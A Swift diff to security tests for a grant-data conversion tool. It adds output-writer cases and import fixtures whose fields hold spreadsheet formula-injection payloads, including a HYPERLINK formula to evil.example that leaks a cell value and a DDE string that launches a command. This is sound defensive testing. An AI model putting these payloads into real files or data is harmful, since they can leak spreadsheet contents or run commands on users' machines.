@@ -1,5 +1,6 @@
 import Foundation
 import ZIPFoundation
+import ConvenorTestSupport
 
 /// Shared by the privacy, determinism and atomic-output tests (issue 8): fixtures with planted
 /// household ids, every command that exists, and a scanner that reads every output (zips opened).
@@ -87,6 +88,52 @@ enum Security {
         CommandCase(name: "pack system-wide", arguments: { input, out in ["pack", "system-wide", "--portfolio", input, "-o", out] }),
     ]
 
+    /// Every way a command writes output (issue 19), with its arguments for an output path; imports read
+    /// the small open-data files `importInputs` makes in `inputs`. Extend as commands that write land.
+    struct OutputWriter: CustomStringConvertible, Sendable {
+        var name: String
+        /// A single file (.xml) rather than a folder.
+        var isFile = false
+        var arguments: @Sendable (_ inputs: URL, _ output: String) -> [String]
+        var description: String { name }
+    }
+
+    static let outputWriters: [OutputWriter] = [
+        OutputWriter(name: "convert → CSV folder") { _, out in ["convert", exampleXML, "-o", out] },
+        OutputWriter(name: "convert → XML", isFile: true) { _, out in ["convert", exampleCSV, "-o", out] },
+        OutputWriter(name: "overlap") { _, out in ["overlap", exampleCSV, "-o", out] },
+        OutputWriter(name: "register") { _, out in ["register", exampleCSV, "-o", out] },
+        OutputWriter(name: "pack") { _, out in ["pack", "pilot-review", "--portfolio", exampleCSV, "-o", out] },
+        OutputWriter(name: "demo") { _, out in ["demo", "-o", out] },
+        OutputWriter(name: "import iati → CSV folder") { inputs, out in ["import", "iati", inputs.appendingPathComponent("iati.xml").path, "-o", out] },
+        OutputWriter(name: "import iati → XML", isFile: true) { inputs, out in ["import", "iati", inputs.appendingPathComponent("iati.xml").path, "-o", out] },
+        OutputWriter(name: "import 360giving → CSV folder") { inputs, out in ["import", "360giving", inputs.appendingPathComponent("grants.csv").path, "-o", out] },
+    ]
+
+    /// Small IATI and 360Giving files whose names look like spreadsheet formulas, for the importers.
+    static func importInputs() throws -> URL {
+        let dir = try CLIRunner.temporaryDirectory()
+        try Data("""
+        <?xml version="1.0" encoding="UTF-8"?>
+        <iati-activities version="2.03" generated-datetime="2026-03-01T10:00:00Z">
+          <iati-activity default-currency="GBP" xml:lang="en">
+            <iati-identifier>GB-TEST-1</iati-identifier>
+            <reporting-org ref="GB-TEST" type="10"><narrative>=HYPERLINK("http://evil.example/?"&amp;A1,"Click")</narrative></reporting-org>
+            <title><narrative>+cmd|' /C calc'!A0</narrative></title>
+            <activity-status code="2"/>
+            <activity-date type="2" iso-date="2025-04-01"/>
+          </iati-activity>
+        </iati-activities>
+
+        """.utf8).write(to: dir.appendingPathComponent("iati.xml"))
+        try Data("""
+        Identifier,Title,Description,Currency,Amount Awarded,Award Date,Recipient Org:Identifier,Recipient Org:Name,Funding Org:Identifier,Funding Org:Name,Grant Programme:Title
+        360G-x-1,@SUM(1+1),"=1+2",GBP,1000,2025-05-01,GB-CHC-1,-2+3,GB-FUND-1,=cmd,=Programme
+
+        """.utf8).write(to: dir.appendingPathComponent("grants.csv"))
+        return dir
+    }
+
     static let exampleXML = CLIRunner.root.appendingPathComponent("examples/northbridge/portfolio.xml").path
     static let exampleCSV = CLIRunner.root.appendingPathComponent("examples/northbridge/csv").path
 
@@ -165,7 +212,11 @@ enum Security {
                 }
             }
         } else if ext == "json" {
-            if let object = try? JSONSerialization.jsonObject(with: data) {
+            // Malformed JSON cannot be scanned, so it is a finding, never "no leak found".
+            guard let object = try? JSONSerialization.jsonObject(with: data, options: [.fragmentsAllowed]) else {
+                return ["\(name): not valid JSON, so it could not be checked for small counts"]
+            }
+            do {
                 func walk(_ value: Any, key: String?) {
                     if let dict = value as? [String: Any] {
                         for (k, v) in dict { walk(v, key: k) }
